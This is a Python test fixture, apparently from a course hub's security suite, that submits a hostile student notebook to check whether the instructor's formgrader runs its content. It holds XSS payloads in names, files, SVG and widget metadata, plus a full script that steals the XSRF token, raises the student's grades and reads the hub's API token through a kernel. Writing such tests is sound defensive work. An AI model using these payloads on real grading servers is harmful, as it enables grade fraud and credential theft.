"""A hostile learner's submission on a running hub: handed in, collected, autograded, given back."""

import copy
import json
import secrets
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import nbformat
from archives import archive, plain
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from payloads import Payload, corpus, work
from visitors import Visitor

COURSE, ASSIGNMENT = "human-security", "children"
HOSTILE_NAME = "<img src=data:, onerror=taken(`name`)>"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
    "nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg=="
)
ANSWER = "I ask each of them apart."
HONEST = [
    new_markdown_cell("### A *plan* of mine\n\n| step | who |\n|---|---|\n| first | I |"),
    new_code_cell(
        "from IPython.display import display\n"
        "display({'text/html': '<table><tr><th>Honest</th><td><b>table</b></td></tr></table>'},"
        " raw=True)\n"
        f"display({{'image/png': {PIXEL!r}}}, raw=True)\n"
        "print('an honest line')"
    ),
]
HONEST_WORDS = ("A plan of mine", "Honest", "an honest line")
PAGE = "<h1>Mine</h1><script>taken(`file`)</script><img src='/taken/file'>"
KERNEL = "<script>taken(`kernel`)</script>"
DRAWING = "<svg xmlns='http://www.w3.org/2000/svg'><script>taken(`drawing`)</script></svg>"

# All that a script could do there; `BASE` is the instructor's server, `ID` the submission.
THEFT = """<script>(async () => {
  const xsrf = /_xsrf=([^;]+)/.exec(document.cookie)[1];
  const headers = { 'X-XSRFToken': xsrf, 'Content-Type': 'application/json' };
  const asked = await fetch('BASE/formgrader/api/grades?submission_id=ID', { headers });
  const grades = await asked.json();
  for (const grade of grades) {
    const body = JSON.stringify({ manual_score: grade.max_score, extra_credit: 5 });
    await fetch('BASE/formgrader/api/grade/' + grade.id, { method: 'PUT', headers, body });
  }
  taken('mark');
  const code = 'import os; print("token", os.environ["JUPYTERHUB_API_TOKEN"])';
  const body = JSON.stringify({ name: 'python3' });
  const made = await fetch('BASE/api/kernels', { method: 'POST', headers, body });
  const kernel = (await made.json()).id;
  const socket = new WebSocket(`ws://${location.host}BASE/api/kernels/${kernel}/channels`);
  socket.onmessage = message => {
    const said = JSON.parse(message.data).content?.text ?? '';
    if (said.startsWith('token ')) taken(said.trim());
  };
  socket.onopen = () => socket.send(JSON.stringify({
    header: { msg_id: 'a', msg_type: 'execute_request', version: '5.3', username: '',
      session: 's', date: '' },
    parent_header: {}, metadata: {}, channel: 'shell', buffers: [],
    content: { code, silent: false, store_history: false, stop_on_error: true,
      user_expressions: {}, allow_stdin: false }
  }));
  open('BASE/tree');
})()</script>"""
# A look-alike of the formgrader's own button, in words that are marked.
LOOK_ALIKE = '<button type="button" class="full-credit">Read on</button>'
# An anywidget, saved in the notebook, that brings its own script.
WIDGET = {
    "model_module": "anywidget",
    "model_module_version": "~0.11.*",
    "model_name": "AnyModel",
    "state": {
        "_anywidget_id": "x",
        "_esm": "taken('widget'); export default { render() {} }",
        "_model_module": "anywidget",
        "_model_module_version": "~0.11.*",
        "_model_name": "AnyModel",
        "_view_module": "anywidget",
        "_view_module_version": "~0.11.*",
        "_view_name": "AnyView",
    },
}
STATE = "application/vnd.jupyter.widget-state+json"


@dataclass
class HandedIn:
    """One hostile submission, collected and autograded: whose it is, and where it is marked."""

    hub: Any
    username: str
    submission: str = ""

    @property
    def rosa(self) -> Visitor:
        """The instructor."""
        return self.hub.visitor("rosa")

    @property
    def page(self) -> str:
        """The address of the page where it is marked."""
        return f"user/rosa/formgrader/submissions/{self.submission}/"

    @property
    def theft(self) -> str:
        """The script that takes all it can, made for this submission."""
        return THEFT.replace("BASE", "/user/rosa").replace("ID", self.submission)

    def folder(self, step: str) -> Path:
        """Where it lies on the machine: submitted, autograded or feedback."""
        return self.hub.data / "course" / COURSE / step / self.username / ASSIGNMENT

    def ask(self, method: str, path: str, **more) -> httpx.Response:
        """The formgrader's answer to the instructor."""
        answered = self.rosa.server_api(method, f"formgrader/api/{path}", **more)
        answered.raise_for_status()
        return answered

    def run(self, step: str) -> None:
        """Press one of the formgrader's buttons, and see that it worked."""
        said = self.ask("POST", step).json()
        assert said["success"], said

    def grades(self) -> list[dict[str, Any]]:
        """What the gradebook holds for it."""
        found = self.ask("GET", "grades", params={"submission_id": self.submission}).json()
        return sorted(found, key=lambda grade: str(grade["name"]))

    def put_back(self, grades: list[dict[str, Any]]) -> None:
        """Undo what an attack did to its marks."""
        for grade in grades:
            kept = {name: grade[name] for name in ("manual_score", "extra_credit")}
            self.ask("PUT", f"grade/{grade['id']}", json=kept)

    def resources(self, **names: str) -> dict[str, Any]:
        """What the formgrader tells its template about it."""
        return {
            "assignment_id": ASSIGNMENT,
            "notebook_id": "assignment",
            "submission_id": self.submission,
            "index": 0,
            "total": 1,
            "base_url": "/user/rosa",
            "student": self.username,
            "last_name": None,
            "first_name": None,
            "notebook_path": "course",
        } | names


def hand_in(hub) -> HandedIn:
    """The whole corpus, handed in by somebody with a hostile name, and taken all the way."""
    name = f"mallory-{secrets.token_hex(2)}"
    added = hub.travesia("person", "add", name, "--name", HOSTILE_NAME, "--language", "es")
    hub.passwords[name] = added.stdout.split()[1]
    hub.travesia("course", "enrol", COURSE, name)
    made = HandedIn(hub, name)
    _post(hub.visitor(name), _archive(hub))
    made.rosa.start_server()
    made.run(f"assignment/{ASSIGNMENT}/collect")
    made.run(f"submission/{ASSIGNMENT}/{name}/autograde")
    made.run(f"assignment/{ASSIGNMENT}/{name}/generate_feedback")
    made.run(f"assignment/{ASSIGNMENT}/{name}/release_feedback")
    listed = made.ask("GET", f"submitted_notebooks/{ASSIGNMENT}/assignment").json()
    (made.submission,) = [each["id"] for each in listed if each["student"] == name]
    return made


def _archive(hub) -> bytes:
    """A released assignment with every payload in its cells, its answers and its files."""
    released = hub.data / "release" / ASSIGNMENT / "assignment.ipynb"
    theft = Payload("theft", "scripts", html=THEFT), Payload("button", "forms", html=LOOK_ALIKE)
    notebook = work([*corpus(), *theft], nbformat.read(released, as_version=4))
    notebook.cells += HONEST
    # Clumsy too: what is mended in it is listed where it is marked.
    notebook.metadata["kernelspec"] = {"name": KERNEL, "display_name": KERNEL}
    again = copy.deepcopy(next(cell for cell in notebook.cells if "nbgrader" in cell.metadata))
    again.id = "again"
    notebook.cells.append(again)
    words = f"{ANSWER} " + " ".join(each.html for each in corpus())
    answer = {"kind": "text", "version": "1", "value": words, "at": "2026-11-23T12:00:00Z"}
    answers = {"schema": 1, "answers": {"monday-plan": answer}}
    return archive(
        plain("assignment.ipynb", nbformat.writes(notebook).encode()),
        plain("answers.json", json.dumps(answers).encode()),
        plain("page.html", PAGE.encode()),
        plain("drawing.svg", DRAWING.encode()),
        plain("<img src=x onerror=taken(`file`)>.txt", b"x"),
    )


def _post(visitor: Visitor, content: bytes) -> None:
    url = f"{visitor.url}services/campus/api/courses/{COURSE}/assignments/{ASSIGNMENT}/submissions"
    headers = {"Authorization": f"token {visitor.token}"}
    answered = httpx.post(url, content=content, headers=headers, timeout=60)
    assert answered.status_code == httpx.codes.CREATED, answered.text


def saved_notebook() -> str:
    """A notebook with the corpus in it as saved outputs, which nobody has run here."""
    made = new_notebook(cells=[HONEST[0].copy()])
    made.cells += [cell for payload in corpus() for cell in payload.cells]
    made.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    state = {"hostile": WIDGET}
    made.metadata["widgets"] = {STATE: {"version_major": 2, "version_minor": 0, "state": state}}
    made.metadata["travesia"] = {"kind": "assignment", "course": COURSE}
    return str(nbformat.writes(made))
